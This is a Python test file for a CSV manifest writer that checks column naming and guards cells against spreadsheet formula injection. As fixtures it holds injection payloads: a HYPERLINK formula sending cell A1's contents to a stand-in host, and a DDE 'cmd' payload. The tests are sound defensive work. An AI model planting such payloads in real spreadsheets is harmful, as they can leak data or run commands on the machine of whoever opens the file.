"""manifest.csv: columns, name clashes, formula injection."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from darkroom.report.manifest import OWN_COLUMNS, ManifestFormat, format_usd, guard, header, unguard
from darkroom.report.rows import ReportRow, RowStatus

LINE = ReportRow(row=0, key="000000", status=RowStatus.SUCCEEDED)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read(*lines: ReportRow, columns: tuple[str, ...] = ()) -> list[dict[str, str]]:
    form = ManifestFormat(columns)
    text = form.header() + b"".join(form.line(line) for line in lines)
    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))


def test_the_columns_are_the_contract() -> None:
    assert header(("image_url", "sku")) == (
        *("image_url", "sku", "row", "status", "reason", "detail", "output", "provider"),
        *("endpoint", "model", "fallback", "attempts", "latency_ms", "cost_usd"),
        "possible_duplicate_charges",
    )


def test_a_succeeded_row_tells_where_it_came_from() -> None:
    line = ReportRow(
        row=7,
        key="000007",
        status=RowStatus.SUCCEEDED,
        cells=("a.jpg",),
        outputs=("jobs/p/images/a.png", "jobs/p/images/a-1.png"),
        provider="openai",
        endpoint="openai-main",
        model="gpt-image-1.5",
        fallback=True,
        attempts=2,
        latency_ms=8123,
        cost_micro_usd=39_000,
        possible_duplicate_charges=1,
    )
    assert read(line, columns=("image_url",)) == [
        {
            "image_url": "a.jpg",
            "row": "7",
            "status": "succeeded",
            "reason": "",
            "detail": "",
            "output": "jobs/p/images/a.png|jobs/p/images/a-1.png",
            "provider": "openai",
            "endpoint": "openai-main",
            "model": "gpt-image-1.5",
            "fallback": "true",
            "attempts": "2",
            "latency_ms": "8123",
            "cost_usd": "0.039000",
            "possible_duplicate_charges": "1",
        }
    ]


def test_an_unknown_cost_is_empty_and_no_cost_is_zero() -> None:
    assert (format_usd(None), format_usd(0), format_usd(1)) == ("", "0.000000", "0.000001")


def test_input_columns_named_like_ours_are_renamed_and_ours_keep_their_names() -> None:
    named = header(("status", "row", "input_status", "Status"))
    assert named[:4] == ("input_status_2", "input_row", "input_status", "Status")
    assert named[4:] == OWN_COLUMNS


def test_a_manifest_used_as_input_keeps_every_value() -> None:
    first = header(("sku",))
    again = header(first)
    assert len(set(again)) == len(again)
    assert again[0] == "sku"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_that_a_spreadsheet_would_run_are_made_text(start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.test?"&A1)'
    assert guard(evil) == f"'{evil}"


@pytest.mark.parametrize("number", ["-5", "+1", "-5.25", "-1,000.50", "+1e-7", "-12%", "-.5"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert guard(number) == number


@pytest.mark.parametrize("text", ["-5+A1", "+49 171 1234", "-", "=5", "-٣", "--1", "@5", "+"])
def test_what_is_not_a_plain_number_is_guarded(text: str) -> None:
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "plain", "a=b", "5-3", "'quoted'", " =no", "'"])
def test_harmless_cells_are_untouched(text: str) -> None:
    assert guard(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n1a. \uff1d"), max_size=6))
def test_the_guard_can_be_undone(cell: str) -> None:
    assert unguard(guard(cell)) == cell


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), max_size=5))
def test_no_guarded_cell_starts_like_a_formula_unless_it_is_a_number(cells: list[str]) -> None:
    for cell in map(guard, cells):
        if cell.startswith(FORMULA_STARTS):
            float(cell.rstrip("%").replace(",", ""))


# csv reads a lone CR outside quotes as a line end; NUL is not text. Everything else comes back.
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)))
def test_every_cell_comes_back_as_it_was(cells: list[str]) -> None:
    columns = tuple(f"c{i}" for i in range(len(cells)))
    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=tuple(cells))
    found = read(line, columns=columns)[0]
    assert [unguard(found[c]) for c in columns] == cells


def test_headers_and_details_are_guarded_too() -> None:
    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=("x",), detail="=cmd|' /C'!A0")
    form = ManifestFormat(("=evil()",))
    assert form.header().startswith(b"'=evil(),row,")
    assert b",'=cmd|' /C'!A0," in form.line(line)


def test_a_detail_stays_on_one_line() -> None:
    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, detail="two\nlines\r\n here")
    assert read(line)[0]["detail"] == "two lines here"


def test_short_rows_are_padded_and_long_ones_do_not_shift_our_columns() -> None:
    short = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=("a",))
    long = ReportRow(row=1, key="1", status=RowStatus.FAILED, cells=("a", "b", "c"))
    found = read(short, long, columns=("x", "y"))
    assert [(f["x"], f["y"], f["row"]) for f in found] == [("a", "", "0"), ("a", "b", "1")]
